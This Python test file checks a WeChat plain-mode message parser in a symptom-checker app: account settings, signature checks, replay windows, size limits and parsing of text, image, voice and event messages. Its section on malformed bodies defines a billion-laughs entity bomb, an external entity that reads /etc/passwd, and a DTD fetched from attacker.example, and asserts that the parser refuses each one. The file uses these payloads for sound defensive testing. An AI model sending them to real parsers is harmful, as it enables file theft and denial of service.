"""WeChat in plain mode (明文模式): the account settings, URL verification, and signed pushes parsed or refused.

Every push is built by a stand-in for WeChat's servers (wechatpy), so signatures are checked against an
independent implementation; every refusal must be a WeChatProtocolError naming what was wrong.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from wechatpy.exceptions import InvalidSignatureException
from wechatpy.utils import check_signature

from symptomcheck.channels.wechat import (
    MAX_BODY_BYTES,
    BadSignatureError,
    ConfigError,
    MalformedMessageError,
    StaleTimestampError,
    TooLargeError,
    WeChatConfig,
    WeChatProtocolError,
    verify_url,
)

if TYPE_CHECKING:  # the stand-in for WeChat comes as a fixture; its class is imported for annotations only
    from wechat_peer import FakeWeChat

# --- the account's settings --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("settings", "named"),
    [
        ({"token": "ab"}, "3 to 32"),
        ({"token": "has space"}, "3 to 32"),
        ({"token": "x" * 33}, "3 to 32"),
        ({"token": "okToken", "app_id": "1a2b3c4d5e6f7a8b"}, "'wx' then 16"),
        ({"token": "okToken", "app_id": "wx1A2B3C4D5E6F7A8B"}, "lowercase hexadecimal"),
        ({"token": "okToken", "app_id": "wx1a2b", "aes_key": "a" * 43}, "'wx' then 16"),
        ({"token": "okToken", "app_id": "wx1a2b3c4d5e6f7a8b", "aes_key": "a" * 42}, "exactly 43 characters"),
        ({"token": "okToken", "app_id": "wx1a2b3c4d5e6f7a8b", "aes_key": "a" * 44}, "exactly 43 characters"),
        ({"token": "okToken", "app_id": "wx1a2b3c4d5e6f7a8b", "aes_key": "a" * 42 + "+"}, "digits 0-9 only"),
        ({"token": "okToken", "aes_key": "a" * 43}, "needs app_id"),
    ],
)
def test_settings_not_in_wechats_form_are_refused_saying_what_is_accepted(settings: dict[str, str], named: str) -> None:
    with pytest.raises(ConfigError, match=named):
        WeChatConfig(**settings)


def test_safe_mode_is_on_exactly_when_an_aes_key_is_set(wechat: FakeWeChat) -> None:
    assert wechat.config(safe=True).safe_mode
    assert not wechat.config(safe=False).safe_mode
    assert not WeChatConfig(token=wechat.token, app_id=wechat.app_id).safe_mode


def test_the_token_and_the_aes_key_stay_out_of_the_config_repr(wechat: FakeWeChat) -> None:
    shown = repr(wechat.config(safe=True))
    assert wechat.app_id in shown
    assert wechat.token not in shown
    assert wechat.aes_key not in shown


# --- URL verification (the GET WeChat sends when the server URL is saved) ---------------------------------------


@pytest.mark.parametrize("safe", [False, True], ids=["plain mode", "safe mode"])
def test_the_url_check_answers_echostr_when_the_signature_holds(wechat: FakeWeChat, safe: bool) -> None:
    timestamp, echostr = "1714036504", "4375120948345356249"
    signature = wechat.signature(timestamp, wechat.nonce)
    check_signature(wechat.token, signature, timestamp, wechat.nonce)  # the peer agrees it is valid

    assert verify_url(wechat.config(safe=safe), signature, timestamp, wechat.nonce, echostr) == echostr


def test_the_url_check_matches_the_worked_example_in_wechats_documentation() -> None:
    config = WeChatConfig(token="AAAAA")
    signature = "f464b24fc39322e44b38aa78f5edd27bd1441696"
    assert verify_url(config, signature, "1714036504", "1514711492", "4375120948345356249") == "4375120948345356249"


@pytest.mark.parametrize("signature", ["0" * 40, "", "F464B24FC39322E44B38AA78F5EDD27BD1441696", "签名", "\ud800"])
def test_the_url_check_refuses_a_signature_that_does_not_match(signature: str) -> None:
    with pytest.raises(InvalidSignatureException):
        check_signature("AAAAA", signature, "1714036504", "1514711492")
    with pytest.raises(BadSignatureError, match="signature does not match"):
        verify_url(WeChatConfig(token="AAAAA"), signature, "1714036504", "1514711492", "echo")


# --- signed pushes -----------------------------------------------------------------------------------------------


def test_a_signed_text_message_is_parsed_into_its_fields(wechat: FakeWeChat) -> None:
    message = wechat.plain(wechat.text_xml("我头痛，发烧三天了")).parse(wechat.config(safe=False))

    assert message.to_user == wechat.account
    assert message.from_user == wechat.openid
    assert message.create_time == wechat.now
    assert message.msg_type == "text"
    assert message.msg_id == "23637352235060880"
    assert message.content == "我头痛，发烧三天了"
    assert message.event is None
    assert message.raw["Content"] == "我头痛，发烧三天了"


def test_the_parsed_message_cannot_be_changed(wechat: FakeWeChat) -> None:
    message = wechat.plain(wechat.text_xml("hello")).parse(wechat.config(safe=False))
    with pytest.raises(AttributeError):
        message.content = "changed"  # type: ignore[misc]
    with pytest.raises(TypeError):
        message.raw["Content"] = "changed"  # type: ignore[index]


def test_a_plain_message_with_a_bad_signature_is_refused(wechat: FakeWeChat) -> None:
    push = wechat.plain(wechat.text_xml("hello"))
    with pytest.raises(BadSignatureError, match="did not come from WeChat"):
        push.parse(wechat.config(safe=False), signature="0" * 40)


def test_a_plain_message_signed_with_another_token_is_refused(wechat: FakeWeChat) -> None:
    push = wechat.other(token="someoneElse").plain(wechat.text_xml("hello"))
    with pytest.raises(BadSignatureError):
        push.parse(wechat.config(safe=False))


def test_a_nonce_changed_after_signing_is_refused(wechat: FakeWeChat) -> None:
    push = wechat.plain(wechat.text_xml("hello"))
    with pytest.raises(BadSignatureError):
        push.parse(wechat.config(safe=False), nonce="1514711493")


@pytest.mark.parametrize(("offset", "where"), [(-301, "in the past"), (301, "in the future"), (-86_400, "in the past")])
def test_a_push_signed_too_long_before_or_after_now_is_refused_as_a_replay(
    wechat: FakeWeChat, offset: int, where: str
) -> None:
    push = wechat.plain(wechat.text_xml("hello"), timestamp=wechat.now + offset)
    with pytest.raises(StaleTimestampError, match=where):
        push.parse(wechat.config(safe=False), now=float(wechat.now))


@pytest.mark.parametrize("offset", [-300, 0, 300])
def test_a_push_within_the_replay_window_is_accepted(wechat: FakeWeChat, offset: int) -> None:
    push = wechat.plain(wechat.text_xml("hello"), timestamp=wechat.now + offset)
    assert push.parse(wechat.config(safe=False), now=float(wechat.now)).content == "hello"


def test_the_replay_window_can_be_narrowed(wechat: FakeWeChat) -> None:
    push = wechat.plain(wechat.text_xml("hello"), timestamp=wechat.now - 61)
    with pytest.raises(StaleTimestampError, match="60 s"):
        push.parse(wechat.config(safe=False), now=float(wechat.now), max_age_seconds=60)


@pytest.mark.parametrize(
    "timestamp", ["", "abc", "1.7e9", "-1700000000", " 1700000000", "１７００００００００", "9" * 40]
)
def test_a_timestamp_that_is_not_unix_seconds_in_digits_is_refused(wechat: FakeWeChat, timestamp: str) -> None:
    push = wechat.plain(wechat.text_xml("hello"))
    push.params["signature"] = wechat.signature(timestamp, wechat.nonce)  # signed, yet still refused
    with pytest.raises(MalformedMessageError, match="timestamp must be Unix seconds"):
        push.parse(wechat.config(safe=False), timestamp=timestamp, now=float(wechat.now))


def test_a_body_over_the_size_limit_is_refused_before_anything_else(wechat: FakeWeChat) -> None:
    huge = wechat.text_xml("x" * MAX_BODY_BYTES)
    push = wechat.plain(huge)
    with pytest.raises(TooLargeError, match=f"at most {MAX_BODY_BYTES}"):
        push.parse(wechat.config(safe=False), signature="not even checked")


def test_the_size_limit_can_be_lowered(wechat: FakeWeChat) -> None:
    push = wechat.plain(wechat.text_xml("hello"))
    with pytest.raises(TooLargeError):
        push.parse(wechat.config(safe=False), max_body_bytes=100)


def test_a_plain_account_refuses_a_push_that_says_it_is_encrypted(wechat: FakeWeChat) -> None:
    push = wechat.plain(wechat.text_xml("hello"))
    with pytest.raises(MalformedMessageError, match="no aes_key is configured"):
        push.parse(wechat.config(safe=False), encrypt_type="aes")


@pytest.mark.parametrize("encrypt_type", [None, "", "raw"])
def test_a_plain_account_accepts_the_encrypt_types_that_mean_plain(
    wechat: FakeWeChat, encrypt_type: str | None
) -> None:
    push = wechat.plain(wechat.text_xml("hello"))
    assert push.parse(wechat.config(safe=False), encrypt_type=encrypt_type).content == "hello"


# --- bodies that are not a WeChat message ------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&lol9;</Content></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&secret;</Content></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>hi</Content></xml>"""


@pytest.mark.parametrize(
    "body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["billion laughs", "external entity", "external DTD"]
)
def test_a_body_with_a_dtd_is_refused_so_entities_are_never_expanded_or_fetched(
    wechat: FakeWeChat, body: bytes
) -> None:
    with pytest.raises(MalformedMessageError, match="DTD, entity or external reference"):
        wechat.plain(body).parse(wechat.config(safe=False))


def test_an_undeclared_entity_is_refused_as_malformed(wechat: FakeWeChat) -> None:
    with pytest.raises(MalformedMessageError, match="not well-formed"):
        wechat.plain(wechat.text_xml("&secret;").replace("<![CDATA[&secret;]]>", "&secret;")).parse(
            wechat.config(safe=False)
        )


def test_a_body_that_is_not_utf8_is_refused(wechat: FakeWeChat) -> None:
    body = wechat.text_xml("hello").encode().replace(b"hello", b"h\xffllo")
    with pytest.raises(MalformedMessageError, match="not UTF-8"):
        wechat.plain(body).parse(wechat.config(safe=False))


def test_a_body_in_another_encoding_is_refused_even_if_it_declares_it(wechat: FakeWeChat) -> None:
    body = b'<?xml version="1.0" encoding="GBK"?>' + wechat.text_xml("发烧").encode("gbk")
    with pytest.raises(MalformedMessageError, match="not UTF-8"):
        wechat.plain(body).parse(wechat.config(safe=False))


@pytest.mark.parametrize(
    ("body", "named"),
    [
        (b"", "not well-formed"),
        (b"hello", "not well-formed"),
        (b"<xml><Content>unclosed</xml>", "not well-formed"),
        (b"<xml/><xml/>", "not well-formed"),
        (b"<message><MsgType>text</MsgType></message>", "<xml> as its root"),
        (b"<xml><MsgType>text</MsgType><Content>hi</Content></xml>", "lacks ToUserName, FromUserName, CreateTime"),
        (
            b"<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>soon</CreateTime>"
            b"<MsgType>text</MsgType></xml>",
            "CreateTime must be",
        ),
        (
            b"<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><FromUserName>c</FromUserName>"
            b"<CreateTime>1</CreateTime><MsgType>text</MsgType></xml>",
            "<FromUserName> twice",
        ),
    ],
)
def test_a_body_that_is_not_a_wechat_message_is_refused_saying_why(wechat: FakeWeChat, body: bytes, named: str) -> None:
    with pytest.raises(MalformedMessageError, match=named):
        wechat.plain(body).parse(wechat.config(safe=False))


def test_every_refusal_belongs_to_the_one_protocol_error_family(wechat: FakeWeChat) -> None:
    with pytest.raises(WeChatProtocolError):
        wechat.plain(b"<xml>").parse(wechat.config(safe=False))
    assert issubclass(WeChatProtocolError, ValueError)


# --- messages other than text ------------------------------------------------------------------------------------


def test_an_image_message_is_parsed_with_its_type_and_fields(wechat: FakeWeChat) -> None:
    xml = wechat.message_xml("image", PicUrl="https://mmbiz.qpic.cn/x.jpg", MediaId="media_1", MsgId="1001")
    message = wechat.plain(xml).parse(wechat.config(safe=False))
    assert (message.msg_type, message.msg_id, message.content, message.event) == ("image", "1001", None, None)
    assert message.raw["PicUrl"] == "https://mmbiz.qpic.cn/x.jpg"
    assert message.raw["MediaId"] == "media_1"


def test_a_voice_message_is_parsed_with_its_type_and_recognition(wechat: FakeWeChat) -> None:
    xml = wechat.message_xml("voice", MediaId="media_2", Format="amr", Recognition="胸口痛", MsgId="1002")
    message = wechat.plain(xml).parse(wechat.config(safe=False))
    assert (message.msg_type, message.msg_id, message.content) == ("voice", "1002", None)
    assert message.raw["Format"] == "amr"
    assert message.raw["Recognition"] == "胸口痛"


def test_a_subscribe_event_is_parsed_with_its_event_and_no_message_id(wechat: FakeWeChat) -> None:
    message = wechat.plain(wechat.message_xml("event", Event="subscribe")).parse(wechat.config(safe=False))
    assert (message.msg_type, message.event, message.msg_id, message.content) == ("event", "subscribe", None, None)


def test_a_menu_click_event_is_lower_cased_like_the_other_events(wechat: FakeWeChat) -> None:
    message = wechat.plain(wechat.message_xml("event", Event="CLICK", EventKey="START")).parse(
        wechat.config(safe=False)
    )
    assert message.event == "click"
    assert message.raw["Event"] == "CLICK"
    assert message.raw["EventKey"] == "START"


def test_a_nested_event_payload_does_not_stop_the_message_from_parsing(wechat: FakeWeChat) -> None:
    xml = wechat.message_xml("event", Event="location_select", EventKey="loc").replace(
        "</xml>", "<SendLocationInfo><Location_X>23</Location_X><Location_Y>113</Location_Y></SendLocationInfo></xml>"
    )
    message = wechat.plain(xml).parse(wechat.config(safe=False))
    assert message.event == "location_select"
    assert message.raw["SendLocationInfo"] == ""
